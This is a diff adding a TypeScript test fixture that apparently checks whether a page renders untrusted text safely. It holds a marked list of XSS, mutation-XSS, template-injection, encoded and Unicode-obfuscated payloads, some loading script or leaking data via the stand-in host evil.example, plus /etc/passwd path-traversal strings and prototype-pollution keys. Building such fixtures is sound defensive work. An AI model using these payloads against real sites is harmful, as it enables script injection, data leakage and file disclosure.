@@ -1,0 +1,83 @@
+const run = 'globalThis.hit=1';
+const image = `<img hit src=x onerror=${run}>`;
+const elsewhere = 'evil.example';
+
+/**
+ * Texts that run, load or make something where a page takes them for more than text. What they run sets `hit` on the
+ * page's window, what they make has the attribute `hit`, and what they load is at `evil.example`.
+ */
+const texts: readonly string[] = [
+  // Scripts and event handlers, bare and out of an attribute.
+  `<script hit>${run}</script>`,
+  `"><script hit src=//${elsewhere}/x.js></script>`,
+  image,
+  `'"><img hit src=x onerror="${run}">`,
+  `" onmouseover="${run}" autofocus onfocus="${run}" hit="`,
+  `' onclick='${run}' style='position:fixed;inset:0' hit='`,
+  `<details hit open ontoggle=${run}>`,
+  `<input hit autofocus onfocus=${run}>`,
+  `<video hit><source onerror=${run}></video>`,
+  `<x-unknown hit tabindex=1 onfocus=${run} autofocus>x</x-unknown>`,
+  `<ıMG hit src=x onerror=${run}><IMG HIT SRC=x OnErRoR=${run}>`,
+  // Other documents, and what changes this one.
+  `<iframe hit src="javascript:parent.hit=1"></iframe>`,
+  `<iframe hit srcdoc="<script>parent.hit=1</script>"></iframe>`,
+  `<object hit data="data:text/html,<script>parent.hit=1</script>"></object>`,
+  `<embed hit src="https://${elsewhere}/x.swf">`,
+  `<base hit href="https://${elsewhere}/">`,
+  `<meta hit http-equiv="refresh" content="0;url=https://${elsewhere}/">`,
+  `<form hit action="https://${elsewhere}/"><button hit formaction="javascript:${run}">go</button></form>`,
+  // Styles.
+  `<link hit rel=stylesheet href="https://${elsewhere}/x.css">`,
+  `<style hit>*{background:url(https://${elsewhere}/leak)}</style>`,
+  `red;background-image:url(https://${elsewhere}/leak)`,
+  `url(https://${elsewhere}/leak)`,
+  // SVG and MathML, and what a second parsing changes.
+  `<svg hit onload=${run}>`,
+  `<svg hit><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg hit><a xlink:href="javascript:${run}"><text y=20>go</text></a></svg>`,
+  `<math hit><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img hit src=1 onerror=${run}&gt;">`,
+  `<svg hit></p><style><a id="</style>${image}">`,
+  `<noscript hit><p title="</noscript>${image}">`,
+  `</textarea></title></style></script>${image}`,
+  `-->${image}<!-- ]]>${image}`,
+  // Links.
+  `<a hit href="javascript:${run}">go</a>`,
+  `javascript:${run}//`,
+  `\u0001 java\tscript\n:${run}//`,
+  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=`,
+  `//${elsewhere}/leak.png`,
+  `https://${elsewhere}/leak.png`,
+  'file:///etc/passwd',
+  '../../../../etc/passwd\0.png',
+  // Templates, Svelte's first.
+  `{@html "${image.replaceAll('"', "'")}"}{@const x = (${run})}`,
+  `{${run}}{#if (${run})}x{/if}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}}\`\${${run}}\`<%= ${run} %>`,
+  // Written otherwise.
+  `&lt;img hit src=x onerror=${run}&gt;&#60;img hit src=x onerror=${run}&#62;`,
+  `%3Cimg%20hit%20src%3Dx%20onerror%3D${run}%3E`,
+  `\\u003cimg hit src=x onerror=${run}\\u003e\\x3cimg hit src=x onerror=${run}\\x3e`,
+  `＜img hit src=x onerror=${run}＞‹img hit src=x onerror=${run}›`,
+  `<im\0g hit src=x onerror=${run}><img\u2028hit\u2029src=x onerror=${run}>`,
+  `\u202e${image}\u202c \u2066gpj.exe\u2069 ${'Z\u0351\u0344\u0320'.repeat(5)}`,
+  `\ufeff\u200b${image}\ud800`,
+  // Names that objects have.
+  '__proto__',
+  'constructor.prototype.hit',
+];
+
+/** What each text ends with, so that it is known where it shows; nobody's words hold it by chance. */
+const mark = (at: number): string => `~${String(at).padStart(2, '0')}~`;
+const marks = /~(\d\d)~/g;
+
+/** The corpus: every text with its mark. */
+export const payloads: readonly string[] = texts.map((text, at) => text + mark(at));
+
+/** The text at a place, counted round and round. */
+export const payload = (at: number): string => payloads[at % payloads.length] ?? '';
+
+/** Which texts of the corpus show in what a page says, by their places. */
+export const shownIn = (words: string): Set<number> =>
+  new Set([...words.matchAll(marks)].map(([, place]) => Number(place)));
